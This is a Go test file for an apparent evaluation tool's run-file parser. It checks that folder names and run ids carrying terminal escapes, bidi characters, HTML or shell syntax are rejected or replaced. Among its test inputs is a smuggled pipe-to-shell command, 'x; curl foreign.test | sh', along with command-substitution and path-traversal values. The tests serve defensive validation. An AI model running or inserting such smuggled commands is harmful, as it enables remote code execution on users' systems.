package runfile_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/proviso-eval/proviso/internal/runfile"
)

// TestForeignNames: commands print the names of kept runs, which others may have made. A folder
// with the length of an id, but with a name that would clear the screen, is not a run.
func TestForeignNames(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for _, name := range []string{"20260105-091500-\x1b[2J", "20260105-091500-\u202ex", "20260105-091500-<b>x", "20260105-091500-a b;", "20260105-091500-\xff\xff\xff\xff", "20260105-091500-k3x9"} {
		path := filepath.Join(dir, name, runfile.FileName)
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, []byte(shortHeader), 0o600)); err != nil {
			t.Log("the system has no such name:", err)
		}
	}
	list, err := runfile.List(dir)
	if err != nil || len(list) != 1 || list[0].ID != "20260105-091500-k3x9" {
		t.Errorf("%+v %v", list, err)
	}
}

// TestForeignHeader: an id that is not plain is replaced by one of the content, since reports
// print commands with it for people to copy.
func TestForeignHeader(t *testing.T) {
	t.Parallel()
	line := func(id, started string) []byte {
		return []byte(`{"proviso":"run","format":1,"id":"` + id + `","suite":"s","hash":"h","started":"` + started + `"}`)
	}
	const today = "2026-01-05T09:15:00Z"
	for _, id := range []string{"", "20260105-091500-k3x9", "run_01abcXYZ", "i"} {
		if h, err := runfile.ParseHeader(line(id, today)); err != nil || h.ID != id {
			t.Errorf("%q was read as %q, %v", id, h.ID, err)
		}
	}
	for _, id := range []string{"x; curl foreign.test | sh", "$(x)", "`x`", "--run-dir=x", "../x", `\u001b[2J`, `a\u202eb`, "a b", "<b>", strings.Repeat("x", 81)} {
		if h, err := runfile.ParseHeader(line(id, today)); err != nil || !runfile.IsID(h.ID) || !strings.HasPrefix(h.ID, "20260105-091500-") {
			t.Errorf("%q was read as %q, %v", id, h.ID, err)
		}
	}
	for started, want := range map[string]string{"9999-12-31T23:59:59-23:00": "in the year 10000", "9001-01-01T00:00:00Z": "in the year 9001", "0001-01-01T00:00:00+14:00": "in the year 0", "0001-01-01T00:00:00Z": "", "9000-12-31T23:59:59Z": ""} {
		_, err := runfile.ParseHeader(line("x", started))
		if (err == nil) != (want == "") || err != nil && !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", started, err)
		}
	}
}
